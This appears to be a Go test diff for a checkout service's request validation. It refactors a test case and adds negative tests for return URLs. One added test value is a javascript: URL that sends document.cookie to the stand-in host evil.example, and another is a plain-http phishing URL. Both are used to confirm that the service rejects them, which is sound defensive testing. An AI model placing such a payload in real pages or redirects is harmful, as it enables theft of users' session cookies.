@@ -287,6 +287,15 @@ func TestValidateFailures(t *testing.T) {
 		h.putCart(t, c)
 		return c
 	}
+	// changed publishes the request of checkout id for the cart, changed by change.
+	changed := func(id string, change func(r *events.CheckoutRequest)) func(*testing.T, events.Cart) string {
+		return func(t *testing.T, c events.Cart) string {
+			r := request(id, c.ID, "cus_ada", address("US", ""))
+			change(&r)
+			h.checkout(t, r, "")
+			return id
+		}
+	}
 	tests := []struct {
 		name string
 		cart events.Cart
@@ -303,12 +312,9 @@ func TestValidateFailures(t *testing.T) {
 			h.Env.PublishRaw(t, string(events.Requested), []byte(data), "")
 			return "co-unknown"
 		}, events.CodeInvalidRequest},
-		{"card number instead of a payment method", usd(tee), func(t *testing.T, c events.Cart) string {
-			r := request("co-card", c.ID, "cus_ada", address("US", ""))
+		{"card number instead of a payment method", usd(tee), changed("co-card", func(r *events.CheckoutRequest) {
 			r.PaymentMethodID = "4242424242424242"
-			h.checkout(t, r, "")
-			return "co-card"
-		}, events.CodeInvalidRequest},
+		}), events.CodeInvalidRequest},
 		{"unknown cart", events.Cart{ID: "cart_missing"}, nil, events.CodeCartNotFound},
 		{"someone else's cart", usd(tee), func(t *testing.T, c events.Cart) string {
 			h.checkout(t, request("co-thief", c.ID, "cus_mallory", address("US", "")), "")
@@ -322,6 +328,12 @@ func TestValidateFailures(t *testing.T) {
 			h.checkout(t, request("co-brazil", c.ID, "cus_ada", address("BR", "")), "")
 			return "co-brazil"
 		}, events.CodeUnsupportedCountry},
+		{"script as return_url", usd(tee), changed("co-js", func(r *events.CheckoutRequest) {
+			r.ReturnURL = "javascript:fetch('https://evil.example/'+document.cookie)"
+		}), events.CodeInvalidRequest},
+		{"plain http return_url", usd(tee), changed("co-http", func(r *events.CheckoutRequest) {
+			r.ReturnURL = "http://evil.example/phish"
+		}), events.CodeReturnURLNotAllowed},
 	}
 	for i, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
